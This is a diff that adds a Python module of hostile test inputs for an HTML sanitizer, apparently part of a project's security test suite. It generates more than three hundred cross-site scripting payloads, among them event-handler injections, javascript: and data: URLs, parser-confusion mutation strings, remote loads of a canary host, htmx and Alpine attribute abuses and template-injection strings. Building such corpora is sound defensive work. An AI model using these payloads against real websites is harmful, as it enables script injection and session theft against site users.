@@ -1,0 +1,167 @@
+"""Corpus H of security.md: texts that want to run, load or hide something. Each calls alert(1) or canary.example."""
+
+from collections.abc import Iterator
+from itertools import product
+from typing import Final
+
+CANARY: Final = "canary.example"
+FETCHED: Final = f"https://{CANARY}/x"
+
+TAGS: Final = (
+    "img src=x",
+    "svg",
+    "body",
+    "iframe src=about:blank",
+    "input autofocus",
+    "details open",
+    "video src=x",
+    "audio src=x",
+    "marquee",
+    "object data=x",
+    "a href=#",
+    "p",
+    "table background=x",
+    "select autofocus",
+    "form",
+    "button autofocus",
+    "textarea autofocus",
+)
+EVENTS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationstart", "OnErRoR")
+SCHEMES: Final = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A&#x61vascript:alert(1)",
+    "\x01javascript:alert(1)",
+    "vbscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg onload=alert(1)>",
+    "blob:null/alert(1)",
+    "file:///etc/passwd",
+    "feed:javascript:alert(1)",
+    "jar:javascript:alert(1)",
+    "view-source:javascript:alert(1)",
+)
+LOADING: Final = (
+    f"<img src={FETCHED}>",
+    f"<img srcset='{FETCHED} 2x'>",
+    f"<link rel=stylesheet href={FETCHED}>",
+    f"<link rel=prefetch href={FETCHED}>",
+    f"<style>@import '{FETCHED}';</style>",
+    f"<style>p{{background:url({FETCHED})}}</style>",
+    f"<p style='background:url({FETCHED})'>x</p>",
+    f"<p style=\"list-style:url('{FETCHED}')\">x</p>",
+    f"<iframe src={FETCHED}></iframe>",
+    f"<iframe srcdoc='<img src={FETCHED}>'></iframe>",
+    f"<object data={FETCHED}></object>",
+    f"<embed src={FETCHED}>",
+    f"<video poster={FETCHED}></video>",
+    f"<video><source src={FETCHED}></video>",
+    f"<audio src={FETCHED} autoplay></audio>",
+    f"<body background={FETCHED}>",
+    f"<table background={FETCHED}><tr><td>x</table>",
+    f"<input type=image src={FETCHED}>",
+    f"<svg><image href={FETCHED} /></svg>",
+    f"<svg><use href={FETCHED}#a /></svg>",
+    f"<base href={FETCHED}><a href=y>x</a>",
+    f"<meta http-equiv=refresh content='0;url={FETCHED}'>",
+    f"<script src={FETCHED}></script>",
+    f"<a href=# ping={FETCHED}>x</a>",
+    f"<form action={FETCHED}><button>x</button></form>",
+    f"<math><mi xlink:href={FETCHED}>x</mi></math>",
+    f"<track src={FETCHED}>",
+    f"<frameset><frame src={FETCHED}></frameset>",
+    f"<bgsound src={FETCHED}>",
+    f"<template><img src={FETCHED}></template>",
+)
+PARTS: Final = (
+    '<div hx-get="/prospects/" hx-trigger="load">x</div>',
+    '<p data-hx-get="/prospects/" data-hx-trigger="load">x</p>',
+    '<p hx-on:click="alert(1)">x</p>',
+    '<p hx-vals="js:{x: alert(1)}">x</p>',
+    '<p x-data x-init="alert(1)">x</p>',
+    '<p x-on:click="alert(1)" @click="alert(1)">x</p>',
+    '<p id="main" class="toast" data-dialog>x</p>',
+    "<a href='/x' target='_blank' rel='opener'>x</a>",
+    "<a name=csrfmiddlewaretoken href='https://example.dk'>x</a>",
+    '<p contenteditable autofocus onfocus="alert(1)">x</p>',
+)
+BROKEN: Final = (
+    "<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/xss>alert(1)</script>",
+    "<script\n>alert(1)</script >",
+    "<<script>alert(1)//<</script>",
+    "<script>alert(1)",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</ScRiPt>",
+    "<script\0>alert(1)</script>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x onerror\n=\nalert(1)>",
+    "<img src='x'onerror='alert(1)'>",
+    '<img """><script>alert(1)</script>">',
+    "<img src=`x` onerror=`alert(1)`>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
+    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<style><img title='</style><img src=x onerror=alert(1)>'>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
+    "<title><img title='</title><img src=x onerror=alert(1)>'>",
+    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
+    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
+    "<plaintext><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[><script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<!DOCTYPE x [<!ENTITY y 'z'>]><script>alert(1)</script>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<p><svg><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<select><style></select><img src=x onerror=alert(1)></style>",
+    "<table><td><script>alert(1)</script></td></table>",
+    "<a href='x' href='javascript:alert(1)'>x</a>",
+    "<a/href='javascript:alert(1)'>x</a>",
+    "<a href=javascript:alert(1)",
+    "<p title='<script>alert(1)</script>'>x</p>",
+    '<p title="\'><img src=x onerror=alert(1)>">x</p>',
+    "\ufeff<script>alert(1)</script>",
+    "\u2028<script>alert(1)</script>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<x onclick=alert(1)>x</x>",
+    "<custom-element onconnected=alert(1)></custom-element>",
+    "<slot name=x><img src=x onerror=alert(1)></slot>",
+    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>",
+    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
+    "<isindex type=image src=x onerror=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
+    "{% load x %}{{ request }}",
+    "{0.__class__}%s%n",
+    "${alert(1)}`${alert(1)}`",
+)
+
+
+def hostile_texts() -> Iterator[str]:
+    """All of them, more than three hundred."""
+    yield from BROKEN
+    yield from LOADING
+    yield from PARTS
+    for tag, event in product(TAGS, EVENTS):
+        yield f"<{tag} {event}=alert(1)>x</{tag.split()[0]}>"
+    for scheme, quote in product(SCHEMES, ('"', "'")):
+        yield f"<a href={quote}{scheme}{quote}>x</a>"
+        yield f"<p><a href={quote}{scheme}{quote} title=x><strong>x</strong></a></p>"
